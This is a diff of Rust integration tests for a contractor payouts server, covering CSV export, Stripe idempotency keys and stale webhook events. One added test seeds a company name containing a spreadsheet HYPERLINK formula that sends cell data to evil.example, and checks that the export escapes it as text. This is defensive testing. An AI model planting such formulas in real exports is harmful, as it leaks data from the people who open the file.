@@ -103,6 +103,29 @@ async fn world(app: &TestApp, tag: &str) -> World {
     World { admin, key, c }
 }
 
+on_both_databases!(a_company_name_that_looks_like_a_formula_stays_text_in_the_csv, |app: TestApp| async move {
+    seed_postcodes(&app).await;
+    let admin = app.admin_token().await;
+    let (_, key) = insurer_key(&app, &admin, "Formula Mutual").await;
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for details\")";
+    let c = contractor(&app, &admin, "formula", json!({"basePostcode": "2150", "companyName": evil}), true).await;
+    completed_job(&app, &admin, &key, &c, 10_000).await;
+    let csv = app
+        .http
+        .get(format!("{}/reports/payouts.csv", app.base))
+        .bearer_auth(&admin)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let mut rows = csv::Reader::from_reader(csv.as_bytes());
+    let row = rows.records().map(Result::unwrap).find(|r| r[0].len() == 36).expect("a payout row");
+    assert_eq!(&row[2], format!("'{evil}"), "the cell is text to a spreadsheet: {csv}");
+    assert_eq!(&row[6], "100.00", "amounts stay numbers");
+});
+
 on_both_databases!(without_a_provider_payouts_wait_and_say_why, |app: TestApp| async move {
     let w = world(&app, "noprov").await;
     let (_, job) = completed_job(&app, &w.admin, &w.key, &w.c, 123_456).await;
@@ -293,8 +316,9 @@ async fn a_repeated_transfer_request_is_answered_by_its_key_not_paid_again() {
     let again = provider.transfer(&t).await.unwrap();
     assert_eq!(first, again);
     assert_eq!(stripe.transfers().len(), 1);
-    assert_eq!(provider.find_transfer("payout-x").await.unwrap(), Some(first));
-    assert_eq!(provider.find_transfer("payout-y").await.unwrap(), None);
+    assert_eq!(provider.find_transfer("payout-x", "payout-x").await.unwrap(), Some(first));
+    assert_eq!(provider.find_transfer("payout-y", "payout-y").await.unwrap(), None);
+    assert_eq!(provider.find_transfer("payout-x", "payout-x-a2").await.unwrap(), None, "another attempt's key");
     // The same key with another amount is refused, not paid.
     let other = Transfer { amount_cents: 999, ..t.clone() };
     assert!(matches!(provider.transfer(&other).await, Err(nrp_server::payments::ProviderError::Refused { .. })));
@@ -340,6 +364,56 @@ on_both_with_stripe!(
         assert_eq!(stripe.transfers().len(), 1);
         let body = app.gql(Some(&w.admin), retry, json!({"id": pid})).await;
         assert_eq!(error_code(&body), "CONFLICT", "a PAID payout is not retried");
+    }
+);
+
+on_both_with_stripe!(
+    events_about_an_earlier_attempts_transfer_never_move_the_payout,
+    |app: TestApp, stripe: FakeStripe| async move {
+        let w = world(&app, "stale").await;
+        onboard(&app, &w.c).await;
+        let (_, job) = completed_job(&app, &w.admin, &w.key, &w.c, 60_000).await;
+        app.ok(Some(&w.admin), BATCH, json!({})).await;
+        let p = payout(&app, &w.admin, &job).await;
+        assert_eq!(p["status"], "PAID");
+        let pid = p["id"].as_str().unwrap().to_string();
+        let first = stripe.transfer(p["transferId"].as_str().unwrap()).unwrap();
+        // Stripe reports the first transfer failed: the payout fails, an admin retries it, and the
+        // retry's answer is lost, so the second attempt is PROCESSING with its outcome unknown.
+        let (s, _) = deliver(&app, &event("evt_t1_failed", "transfer.failed", now(), first.clone()), now(), WEBHOOK_SECRET)
+            .await;
+        assert_eq!(s, 200);
+        assert_eq!(payout(&app, &w.admin, &job).await["status"], "FAILED");
+        app.ok(Some(&w.admin), "mutation($id:ID!){ retryPayout(id:$id){ status } }", json!({"id": pid})).await;
+        stripe.script(Script::LoseAnswer(Duration::from_secs(3)));
+        app.ok(Some(&w.admin), BATCH, json!({})).await;
+        let p = payout(&app, &w.admin, &job).await;
+        assert_eq!(p["status"], "PROCESSING");
+        assert_eq!(stripe.transfers().len(), 2, "the second attempt made a transfer");
+        let second = stripe.transfers()[1].clone();
+
+        // A late transfer.created about the first transfer does not mark the payout paid with it.
+        let (_, r) = deliver(&app, &event("evt_t1_created", "transfer.created", now() - 60, first.clone()), now(), WEBHOOK_SECRET)
+            .await;
+        assert!(r["outcome"].as_str().unwrap().contains("not the current transfer"), "{r}");
+        assert_eq!(payout(&app, &w.admin, &job).await["status"], "PROCESSING");
+        // The next batch looks up the second attempt's transfer (not the first one in the group).
+        app.ok(Some(&w.admin), BATCH, json!({})).await;
+        let p = payout(&app, &w.admin, &job).await;
+        assert_eq!(p["status"], "PAID");
+        assert_eq!(p["transferId"], second["id"], "settled with the current attempt's transfer");
+        assert_eq!(stripe.transfers().len(), 2, "no third payment");
+
+        // A second copy of the old transfer.failed (another event id) leaves the payout PAID, so
+        // no retry and no third payment can follow from it.
+        let (_, r) = deliver(&app, &event("evt_t1_failed_again", "transfer.failed", now(), first), now(), WEBHOOK_SECRET)
+            .await;
+        assert!(r["outcome"].as_str().unwrap().contains("not the current transfer"), "{r}");
+        assert_eq!(payout(&app, &w.admin, &job).await["status"], "PAID");
+        // The current transfer's own events still apply.
+        let (_, r) = deliver(&app, &event("evt_t2_failed", "transfer.failed", now(), second), now(), WEBHOOK_SECRET).await;
+        assert!(r["outcome"].as_str().unwrap().contains("FAILED"), "{r}");
+        assert_eq!(stripe.transfers().len(), 2);
     }
 );
 
